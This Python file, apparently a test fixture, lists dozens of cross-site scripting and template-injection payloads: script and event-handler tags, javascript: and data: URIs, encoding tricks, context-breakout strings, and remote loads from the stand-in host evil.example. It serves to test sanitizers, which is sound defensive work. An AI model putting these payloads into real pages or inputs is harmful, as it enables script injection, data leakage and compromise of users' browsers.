"""Texts that try to get out of a page: each tries another context or another parser quirk."""

ALERT = "alert(1)"
PAYLOADS = (
    f"<script>{ALERT}</script>", f"<SCRIPT>{ALERT}</SCRIPT>", f"<script/x>{ALERT}</script >", f"<scr<script>ipt>{ALERT}</script>",
    "<script src=//evil.example/x.js></script>", "<script src='https://evil.example/x.js'></script>",
    f"<img src=x onerror={ALERT}>", f"<img/src='x'/onerror='{ALERT}'>", f'"><img src=x onerror="{ALERT}">', f"'><img src=x onerror='{ALERT}'>",
    "<img src=https://evil.example/pixel.png>", "<img srcset='https://evil.example/a 1x'>", f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>", f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{ALERT}'><text>x</text></a></svg>",
    f"<svg><desc><script>{ALERT}</script></desc></svg>", f"</title><script>{ALERT}</script>", f"</desc></svg><script>{ALERT}</script>",
    f"</style><script>{ALERT}</script>", f"</textarea><script>{ALERT}</script>", f"</pre></details><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--", f"]]><script>{ALERT}</script>", f"<![CDATA[<script>{ALERT}</script>]]>",
    f"<body onload={ALERT}>", f"<details open ontoggle={ALERT}>", f"<input autofocus onfocus={ALERT}>", f"<marquee onstart={ALERT}>",
    f"<video src=x onerror={ALERT}>", f"<audio src=x onerror={ALERT}>", f"<iframe src='javascript:{ALERT}'></iframe>",
    f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
    f"<object data='data:text/html,<script>{ALERT}</script>'></object>", "<embed src=https://evil.example/x.swf>",
    f"<a href='javascript:{ALERT}'>click</a>", f"<a href='&#106;avascript:{ALERT}'>click</a>", f"<a href='data:text/html,<script>{ALERT}</script>'>x</a>",
    f"javascript:{ALERT}", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{ALERT}'/>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==\">", "<link rel=stylesheet "
                                                                                "href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>", f"<form action='javascript:{ALERT}'><button autofocus>x</button></form>",
    "![pixel](https://evil.example/pixel.png)", f"[click](javascript:{ALERT})", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "{{ 7*7 }}{{ self.__init__.__globals__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "${alert(1)} <%= alert(1) %> #{alert(1)}",
    f'" onmouseover="{ALERT}" autofocus x="', f"' onfocus='{ALERT}' x='", f"` onerror=`{ALERT}", f"\u202e<script>{ALERT}</script>\u202c",
    f"\ufeff<script>{ALERT}</script>", f"<\x00script>{ALERT}</script>", f"<scr\u00adipt>{ALERT}</script>", f"＜script＞{ALERT}＜/script＞",
    f"\u2028<script>{ALERT}</script>\u2029", f"+ADw-script+AD4-{ALERT}+ADw-/script+AD4-", "<math><mtext><img src=x "
                                                                                          f"onerror={ALERT}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>", f"&lt;script&gt;{ALERT}&lt;/script&gt;", f"&#60;script&#62;{ALERT}&#60;/script&#62;",
)  # fmt: skip


def all_in_one(text: str) -> str:
    """``text`` followed by every payload."""
    return text + "".join(PAYLOADS)
